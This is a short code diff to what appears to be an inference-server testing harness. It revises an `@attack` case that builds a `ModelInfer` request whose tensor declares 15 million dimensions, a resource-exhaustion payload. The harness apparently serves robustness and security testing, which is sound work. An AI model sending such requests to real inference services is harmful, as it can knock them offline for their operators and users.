@@ -44,10 +44,10 @@ def _each_axis(strike: Strike, sizes: tuple[int, ...]) -> list[bytes]:
 @attack(_SHAPES)
 def millions_of_dimensions(strike: Strike) -> None:
     """A shape of 15 million axes."""
-    name = strike.target.request().inputs[0].name.encode()
+    described = strike.target.request().inputs[0]
+    del described.shape[:]
     dimensions = b"\x01" * 15_000_000
-    shape = b"\x1a" + encode_varint(len(dimensions)) + dimensions
-    tensor = b"\x0a" + encode_varint(len(name)) + name + shape
+    tensor = described.SerializeToString() + b"\x1a" + encode_varint(len(dimensions)) + dimensions
     model = strike.target.model.encode()
     sent = b"\x0a" + encode_varint(len(model)) + model + b"\x2a" + encode_varint(len(tensor)) + tensor
     strike.call("ModelInfer", sent)
